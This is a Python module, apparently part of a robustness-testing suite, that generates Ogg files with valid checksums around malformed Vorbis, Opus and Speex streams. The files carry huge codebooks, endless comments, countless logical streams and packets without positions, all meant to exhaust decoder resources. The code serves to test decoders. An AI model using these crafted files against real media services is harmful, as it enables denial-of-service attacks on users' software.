"""Ogg: pages with right checksums around streams that no encoder writes.

Vorbis I specification: https://xiph.org/vorbis/doc/Vorbis_I_spec.html (codebooks: 3.2.1; set-up header: 4.2.4).
"""

from __future__ import annotations

import struct
from collections.abc import Iterable, Sequence

from measure.chaos.attacks import Crc, named, repeated

RATE = 16_000
MOST_PACKETS = 255  # of one segment each in a page
BEGIN, END = 2, 4  # flags of the first and the last page
ONCE = 1 << 14  # entries of a codebook that FFmpeg takes, too


checksum = Crc(32, 0x04C11DB7)


def page(packets: Sequence[bytes], number: int, granule: int, flags: int = 0, serial: int = 1) -> bytes:
    """One page of whole packets (RFC 3533, section 6)."""
    lacing = bytes(part for packet in packets for part in (*[255] * (len(packet) // 255), len(packet) % 255))
    head = struct.pack("<4sBBqIII", b"OggS", 0, flags, granule, serial, number, 0)
    body = head + bytes([len(lacing)]) + lacing + b"".join(packets)
    return body[:22] + struct.pack("<I", checksum(body)) + body[26:]


class Bits:
    """Numbers of any width, lowest bit first."""

    def __init__(self) -> None:
        self.value = self.length = 0

    def put(self, *numbers: tuple[int, int]) -> Bits:
        for number, width in numbers:
            self.value |= number << self.length
            self.length += width
        return self

    def bytes(self) -> bytes:
        return self.value.to_bytes(-(-self.length // 8), "little")


def codebook(bits: Bits, entries: int, width: int) -> None:
    """A codebook of so many entries, each with a code of `width` bits, said in 12 bytes by its ordered form."""
    bits.put((0x564342, 24), (1, 16), (entries, 24), (1, 1), (width - 1, 5))
    bits.put((min(entries, 1 << width), entries.bit_length()), (0, 4))


def vorbis_setup(books: Iterable[tuple[int, int]]) -> bytes:
    """A set-up header with these codebooks (entries, width), and one floor, residue, mapping and mode."""
    bits, listed = Bits(), list(books)
    bits.put((len(listed) - 1, 8))
    for entries, width in listed:
        codebook(bits, entries, width)
    bits.put((0, 6), (0, 16))  # time
    bits.put((0, 6), (1, 16), (0, 5), (0, 2), (0, 4))  # floor 1 without partitions
    bits.put((0, 6), (0, 16), (0, 24), (0, 24), (0, 24), (0, 6), (0, 8), (0, 3), (0, 1))  # residue
    bits.put((0, 6), (0, 16), (0, 1), (0, 1), (0, 2), (0, 8), (0, 8), (0, 8))  # mapping
    bits.put((0, 6), (0, 1), (0, 16), (0, 16), (0, 8), (1, 1))  # mode, framing
    return b"\x05vorbis" + bits.bytes()


def vorbis_head(rate: int = RATE, channels: int = 1, blocks: int = 0x88) -> bytes:
    return b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, channels, rate, 0, 0, 0, blocks, 1)


COMMENT = b"\x03vorbis" + struct.pack("<II", 0, 0) + b"\x01"


def stream(headers: Sequence[bytes], packets: int, packet: bytes, granule: int, serial: int = 1) -> bytes:
    """Headers in pages of their own, then so many equal packets; only the last page says a position."""
    pages = [
        page([header], number, 0, BEGIN if number == 0 else 0, serial)
        for number, header in enumerate(headers)
    ]
    left = max(packets, 1)
    while left > 0:
        count = min(left, MOST_PACKETS)
        left -= count
        pages.append(
            page([packet] * count, len(pages), granule if not left else -1, 0 if left else END, serial)
        )
    return b"".join(pages)


def vorbis(books: Sequence[tuple[int, int]], packets: int = 126, granule: int = RATE) -> bytes:
    setup = vorbis_setup(books)
    return stream([vorbis_head(), COMMENT, setup], packets, b"\0\0", granule)


def opus_head(channels: int = 1, pre_skip: int = 0) -> bytes:
    return b"OpusHead" + struct.pack("<BBHIhB", 1, channels, pre_skip, 48_000, 0, 0)


OPUS_TAGS = b"OpusTags" + struct.pack("<II", 0, 0)


def many_comments(size: int) -> bytes:
    count = size // 5
    comment = b"\x03vorbis" + struct.pack("<II", 0, count) + b"\x01\0\0\0=" * count
    packet = comment + b"\x01"
    chunks = [packet[at : at + 255 * 254] for at in range(0, len(packet), 255 * 254)]
    pages = [page([vorbis_head()], 0, 0, BEGIN)]
    pages += [_part(chunk, number, last=number == len(chunks)) for number, chunk in enumerate(chunks, 1)]
    pages += [page([vorbis_setup([(ONCE, 14)])], len(pages), 0)]
    return b"".join([*pages, page([b"\0\0"] * 126, len(pages), RATE, END)])


def _part(chunk: bytes, number: int, last: bool) -> bytes:
    """A page that holds a piece of a packet."""
    whole = page([chunk], number, -1, 1 if number > 1 else 0)
    if last or len(chunk) % 255:
        return whole
    lacing = whole[26] - 1  # without the empty segment that would end the packet
    body = whole[:22] + bytes(4) + bytes([lacing]) + whole[27 : 27 + lacing] + chunk
    return body[:22] + struct.pack("<I", checksum(body)) + body[26:]


def chained(size: int) -> bytes:
    """Recordings end to end, each with codebooks that cost to set up."""
    link = vorbis([(1 << 18, 18)] * 8, granule=160)
    return repeated(link, size)


def logical_streams(size: int) -> bytes:
    heads = [page([vorbis_head()], 0, 0, BEGIN, serial) for serial in range(2, max(3, size // 58))]
    return b"".join(heads) + vorbis([(ONCE, 14)])


def speex_head(frames: int) -> bytes:
    """https://www.speex.org/docs/manual/speex-manual/node8.html"""
    fields = (1, 80, 16_000, 1, 4, 1, -1, 320, 0, frames, 0, 0, 0)
    return b"Speex   " + b"1.2".ljust(20, b"\0") + struct.pack("<13i", *fields)


ATTACKS = named(
    {
        "Ogg: Vorbis: one codebook of 2^22 entries": lambda _: vorbis([(1 << 22, 22)]),
        "Ogg: Vorbis: 256 codebooks of 2^19 entries": lambda _: vorbis([(1 << 19, 19)] * 256),
        "Ogg: Vorbis: 30 codebooks of 2^19 entries": lambda _: vorbis([(1 << 19, 19)] * 30),
        "Ogg: Vorbis: chained streams of large codebooks": chained,
        "Ogg: Vorbis: packets without a position": lambda size: vorbis([(ONCE, 14)], size // 3),
        "Ogg: Vorbis: comments without end": many_comments,
        "Ogg: logical streams without end": logical_streams,
        "Ogg: pages without packets": lambda size: vorbis([(ONCE, 14)]) + page([], 9, -1) * (size // 27),
        "Ogg: Opus: packets without a position": lambda size: stream(
            [opus_head(), OPUS_TAGS], size // 2, b"\xe0", 48_000
        ),
        "Ogg: Opus: packets that are skipped": lambda size: stream(
            [opus_head(2, 65535), OPUS_TAGS], size // 3, b"\xe7\x30", 48_000
        ),
        "Ogg: Speex: packets without a position": lambda size: stream(
            [speex_head(10), bytes(8)], size // 2, b"\xff", 16_000
        ),
    }
)
